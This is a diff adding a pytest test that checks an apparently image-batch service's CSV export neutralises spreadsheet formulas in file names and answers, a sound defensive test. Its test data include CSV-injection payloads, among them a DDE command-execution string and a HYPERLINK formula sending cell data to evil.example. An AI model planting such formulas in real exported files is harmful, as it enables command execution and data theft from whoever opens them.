@@ -10,8 +10,11 @@ from typing import Any
 
 import openai
 import pytest
+from sqlalchemy import select
 
 from service.app import create_app
+from service.core import lifecycle
+from service.core.models import Job, JobStatus
 from tests.conftest import TINY, keyed, make_image, wait_for_status
 
 
@@ -303,3 +306,38 @@ def test_a_native_batch_can_use_a_preset_and_every_item_validates(client, worker
         as_text=True).splitlines()]
     labels = settings.presets["moderate"].labels
     assert all(item["json"]["label"] in labels and json.loads(item["text"]) == item["json"] for item in items)
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", "=HYPERLINK(A1)", "+1+cmd", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_csv_results_neutralise_formulas_in_custom_ids_and_answers_and_keep_numbers(client, db):
+    """Custom ids (file names) and answers that a spreadsheet would run get a leading quote; counts stay numbers."""
+    images = [(io.BytesIO(make_image(color=(i, 0, 0))), f"{formula}.png") for i, formula in enumerate(FORMULAS)]
+    created = client.post("/v1/batches", data={"prompt": "Total?", "model": "tiny-idle", "images": images})
+    assert created.status_code == 200, created.get_json()
+    batch_id = created.get_json()["id"]
+    answers = {f"{formula}.png": answer for formula, answer in
+               zip(FORMULAS, ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "\tTab first", "\rCR first",
+                                 "@attacker", "-5 plain"], strict=True)}
+    with db.session() as session:  # stand in for the worker: claim and finish each item through the state machine
+        jobs = {job.custom_id: job.id for job in session.scalars(select(Job).where(Job.batch_id == batch_id))}
+    for custom_id, job_id in jobs.items():
+        with db.session() as session:
+            assert lifecycle.claim(session, job_id, "test-worker") is not None
+        with db.session() as session:
+            assert lifecycle.finish(session, session.get(Job, job_id), JobStatus.SUCCEEDED,
+                                    result_text=answers[custom_id], prompt_tokens=11, completion_tokens=3)
+    response = client.get(f"/v1/batches/{batch_id}/results?format=csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == (
+        f"attachment; filename=\"{batch_id}.csv\"; filename*=UTF-8''{batch_id}.csv")
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    assert sorted((row["custom_id"], row["text"]) for row in rows) == sorted(
+        ("'" + custom_id, "'" + answer) for custom_id, answer in answers.items())
+    for row in rows:
+        assert (row["status"], row["prompt_tokens"], row["completion_tokens"], row["total_tokens"]) == (
+            "succeeded", "11", "3", "14")
+        assert float(row["total_ms"]) >= 0 and row["error_code"] == "" and row["job_id"].startswith("job_")
+    jsonl = [json.loads(line) for line in client.get(f"/v1/batches/{batch_id}/results").get_data().splitlines()]
+    assert sorted(item["text"] for item in jsonl) == sorted(answers.values())  # JSONL keeps the exact text
